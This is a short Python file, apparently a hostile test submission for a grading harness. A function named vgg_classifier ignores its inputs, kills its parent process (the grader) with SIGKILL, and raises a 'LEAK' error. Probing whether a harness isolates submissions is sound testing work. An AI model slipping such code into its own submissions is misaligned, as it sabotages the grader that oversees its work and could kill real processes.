"""Kills its parent (the grader, where nothing isolates it) with SIGKILL."""
import os
import signal

INFO = {}


def vgg_classifier(features, W1, b1, W2, b2, W3, b3):
    parent = os.getppid()
    os.kill(parent, signal.SIGKILL)
    raise RuntimeError(f"LEAK killed parent {parent}")
